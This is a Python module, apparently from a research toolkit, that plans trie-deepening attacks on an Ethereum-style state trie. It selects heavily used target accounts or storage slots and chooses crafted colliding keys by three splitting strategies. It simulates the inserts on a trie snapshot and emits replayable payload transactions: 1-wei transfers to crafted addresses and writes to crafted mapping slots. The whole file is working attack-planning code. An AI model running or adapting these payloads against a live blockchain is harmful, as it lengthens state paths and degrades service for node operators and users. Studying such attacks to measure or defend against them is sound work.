"""Deepening planner: pick crafted leaves that split the nodes above a target.

Three splitting strategies, named after the node they act on:

* S1: a crafted leaf sharing exactly the consumed prefix of the target leaf
  turns the leaf slot into a branch (+1 layer).
* S2: a crafted leaf sharing more than the consumed prefix puts an extension
  and a branch above the target (+2 layers).
* S3: a crafted leaf diverging inside an extension on the path splits that
  extension around a new branch (+1, or +2 when it lands mid-prefix).

Planning simulates every insertion on a private copy of the trie and
re-traverses the target path after each one, until no candidate applies.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Optional, Sequence

from .collision import CollisionResult, CollisionTarget, common_len
from .keys import Nibbles, mapping_slot, nibbles_to_hex, pad_path
from .state import Account, LeafRef, TraceRecord, WorldState
from .trie import Branch, Extension, KeyNotFound, Leaf, Trie

DEFAULT_MAX_LAYER = 15
ACCOUNT_VALUE = Account(balance=1).encode()
SLOT_VALUE = b"\x01"


@dataclass(frozen=True, slots=True)
class InsertPayload:
    kind: str  # state_account | storage_slot
    crafted_input: bytes
    expected_indexing: Nibbles
    strategy: str  # S1 | S2 | S3
    predicted_new_intermediates: int
    predicted_deepening: int
    owner: Optional[Nibbles] = None  # contract indexing for storage slots
    mapping_position: int = 0
    counter: int = 0
    collateral_leaves: int = 0  # other existing leaves deepened by this insert


@dataclass
class AttackPlan:
    target: Nibbles
    owner: Optional[Nibbles] = None
    inserts: list = field(default_factory=list)
    target_depth_before: int = 0
    target_depth_after: int = 0
    max_layer: int = DEFAULT_MAX_LAYER

    @property
    def deepening(self) -> int:
        return self.target_depth_after - self.target_depth_before

    @property
    def new_intermediates(self) -> int:
        return sum(p.predicted_new_intermediates for p in self.inserts)

    @property
    def collateral_leaves(self) -> int:
        return sum(p.collateral_leaves for p in self.inserts)

    def summary(self) -> dict:
        return {
            "target": LeafRef(self.owner, self.target).label(),
            "depth_before": self.target_depth_before,
            "depth_after": self.target_depth_after,
            "inserts": len(self.inserts),
            "strategies": "".join(p.strategy[1] for p in self.inserts),
            "new_intermediates": self.new_intermediates,
            "collateral_leaves": self.collateral_leaves,
        }


@dataclass(frozen=True, slots=True)
class ActiveAccountFilter:
    threshold: int = 1
    window: Optional[tuple[int, int]] = None
    limit: Optional[int] = None
    include_storage: bool = True

    def __post_init__(self):
        if self.threshold < 1:
            raise ValueError("threshold must be at least 1")


@dataclass(frozen=True, slots=True)
class Match:
    candidate: CollisionResult
    strategy: str
    new_intermediates: int
    deepening: int
    collateral: int


def is_splittable(node, context: Optional[int] = None) -> bool:
    """Whether splitting ``node`` can add a layer above the leaves below it."""
    if isinstance(node, Extension):
        return len(node.prefix) > 1
    if isinstance(node, Leaf):
        return len(node.remainder) > 1
    return False


def _leaf_count(node) -> int:
    if isinstance(node, Leaf):
        return 1
    if isinstance(node, Extension):
        return _leaf_count(node.child)
    return sum(_leaf_count(c) for c in node.child_nodes())


def _classify(node, offset: int, common: int) -> Optional[tuple[str, int]]:
    """Strategy and new-intermediate count for a candidate sharing ``common``
    nibbles with the target, acting on ``node`` at ``offset``."""
    if isinstance(node, Leaf):
        if common == offset:
            return "S1", 1
        if common > offset:
            return "S2", 2
        return None
    if isinstance(node, Extension):
        end = offset + len(node.prefix)
        if offset <= common < end:
            return "S3", int(common > offset) + int(common < end - 1)
    return None


def match_strategy(
    node,
    candidates: Iterable[CollisionResult],
    offset: int,
    target: Nibbles,
    depth: int = 0,
    max_layer: Optional[int] = None,
    exclude: frozenset = frozenset(),
) -> Optional[Match]:
    """Best candidate for splitting ``node`` (at nibble ``offset`` on the
    target's path), or None.

    Leaves try S2 before S1.  Among candidates of one strategy the longest
    common prefix wins, then the lowest grind counter.  Candidates that would
    push the target past ``max_layer`` or whose indexing is in ``exclude`` are
    skipped.
    """
    if not is_splittable(node):
        return None
    best = None
    best_key = None
    for cand in candidates:
        path = cand.indexing
        if path == target or path in exclude:
            continue
        common = common_len(path, target)
        got = _classify(node, offset, common)
        if got is None:
            continue
        strategy, added = got
        if max_layer is not None and depth + added > max_layer:
            continue
        # S2 outranks S1; then longer common prefix; then lower counter
        key = (strategy == "S2", common, -cand.counter)
        if best_key is None or key > best_key:
            best_key = key
            best = (cand, strategy, added)
    if best is None:
        return None
    cand, strategy, added = best
    collateral = 0 if isinstance(node, Leaf) else _leaf_count(node.child) - 1
    return Match(cand, strategy, added, added, collateral)


def _memo_key(node, offset: int):
    size = len(node.prefix) if isinstance(node, Extension) else len(node.remainder)
    return (node.kind, offset, size)


def plan_on(
    trie: Trie,
    target: Nibbles,
    candidates: Sequence[CollisionResult],
    max_layer: int = DEFAULT_MAX_LAYER,
    owner: Optional[Nibbles] = None,
    max_deepening: Optional[int] = None,
) -> AttackPlan:
    """Plan against ``trie`` and apply the planned inserts to it in place."""
    depth_before = trie.depth_of(target)
    if max_layer < depth_before:
        raise ValueError(f"max_layer {max_layer} is above the target (layer {depth_before})")
    limit = max_layer if max_deepening is None else min(max_layer, depth_before + max_deepening)
    kind = "state_account" if owner is None else "storage_slot"
    value = ACCOUNT_VALUE if owner is None else SLOT_VALUE

    # a candidate can only act on path nodes at or above its divergence point
    first = trie.path_report(target)
    offsets = [off for n, off in zip(first.visited, first.offsets) if is_splittable(n)]
    reach = min(offsets) if offsets else 65
    pool = [c for c in candidates if common_len(c.indexing, target) >= reach and c.indexing not in trie]
    memo: set = set()
    plan = AttackPlan(target=target, owner=owner, target_depth_before=depth_before, max_layer=max_layer)
    depth = depth_before
    while True:
        report = trie.path_report(target)
        match = None
        for node, offset in zip(report.visited, report.offsets):
            if not is_splittable(node):
                continue
            key = _memo_key(node, offset)
            if key in memo:
                continue
            match = match_strategy(node, pool, offset, target, depth, limit)
            if match is not None:
                break
            memo.add(key)
        if match is None:
            break
        cand = match.candidate
        trie.insert(cand.indexing, value)
        pool = [c for c in pool if c is not cand]
        depth += match.deepening
        plan.inserts.append(InsertPayload(
            kind=kind,
            crafted_input=cand.input,
            expected_indexing=cand.indexing,
            strategy=match.strategy,
            predicted_new_intermediates=match.new_intermediates,
            predicted_deepening=match.deepening,
            owner=owner,
            mapping_position=cand.mapping_position,
            counter=cand.counter,
            collateral_leaves=match.collateral,
        ))
    plan.target_depth_after = depth
    return plan


def plan_attack(
    trie: Trie,
    target: Nibbles,
    candidates: Sequence[CollisionResult],
    max_layer: int = DEFAULT_MAX_LAYER,
    owner: Optional[Nibbles] = None,
    max_deepening: Optional[int] = None,
) -> AttackPlan:
    """Plan on a snapshot; ``trie`` itself is left untouched."""
    if target not in trie:
        raise KeyNotFound(target)
    return plan_on(trie.snapshot(), target, candidates, max_layer, owner, max_deepening)


def exact_prefix_target(target: Nibbles, position: int, tag: str) -> CollisionTarget:
    """Digests sharing exactly ``position`` leading nibbles with ``target``."""
    if position == 0:
        return CollisionTarget(((target[0] + 1) % 16,), tag)
    return CollisionTarget(tuple(target[:position]), tag, avoid=target[position])


def required_positions(
    trie: Trie,
    target: Nibbles,
    max_prefix: int,
    max_deepening: Optional[int] = None,
    max_layer: int = DEFAULT_MAX_LAYER,
) -> list[int]:
    """Divergence positions worth colliding for ``target``.

    A crafted leaf diverging at a position where the target path has no
    branch yet adds a layer.  Positions are taken in increasing order while
    the simulated depth stays within ``max_layer`` and ``max_deepening``;
    the simulation uses synthetic keys, which shape the target path exactly
    like any real key diverging at the same position.
    """
    sim = trie.snapshot()
    before = sim.depth_of(target)
    limit = max_layer if max_deepening is None else min(max_layer, before + max_deepening)
    chosen = []
    for p in range(0, min(max_prefix, 63) + 1):
        report = sim.path_report(target)
        at_branch = any(isinstance(n, Branch) and off == p for n, off in zip(report.visited, report.offsets))
        if at_branch:
            continue
        probe = sim.snapshot()
        synthetic = pad_path(tuple(target[:p]) + ((target[p] + 1) % 16,))
        probe.insert(synthetic, b"\x01")
        depth = probe.depth_of(target)
        if depth > limit:
            break
        if depth > report.depth:
            chosen.append(p)
            sim = probe
    return chosen


def select_targets(state: WorldState, filt: ActiveAccountFilter) -> list[LeafRef]:
    """Leaves touched at least ``threshold`` times in the window, busiest first."""
    counts = state.access_counts(filt.window)
    chosen = [
        (n, leaf) for leaf, n in counts.items()
        if n >= filt.threshold and (filt.include_storage or leaf.owner is None)
    ]
    chosen.sort(key=lambda item: (-item[0], item[1].label()))
    leaves = [leaf for _, leaf in chosen]
    return leaves if filt.limit is None else leaves[: filt.limit]


def emit_payload_trace(plans: Iterable[AttackPlan], attacker: bytes, block: int = 0) -> list[TraceRecord]:
    """Turn planned inserts into replayable transactions, in plan order.

    Account leaves are created by sending 1 wei to the crafted address;
    storage leaves by writing 1 into the crafted mapping slot.
    """
    records = []
    for plan in plans:
        for p in plan.inserts:
            if p.kind == "state_account":
                records.append(TraceRecord("transfer", attacker, p.crafted_input, None, 1, block))
            else:
                slot = mapping_slot(p.crafted_input, p.mapping_position)
                records.append(TraceRecord("storage_write", attacker, p.owner, slot, 1, block))
    return records


def payload_records(plans: Iterable[AttackPlan]) -> list[dict]:
    out = []
    for plan in plans:
        for p in plan.inserts:
            out.append({
                "target": LeafRef(plan.owner, plan.target).label(),
                "kind": p.kind,
                "input": p.crafted_input.hex(),
                "indexing": nibbles_to_hex(p.expected_indexing),
                "strategy": p.strategy,
                "new_intermediates": p.predicted_new_intermediates,
                "deepening": p.predicted_deepening,
            })
    return out
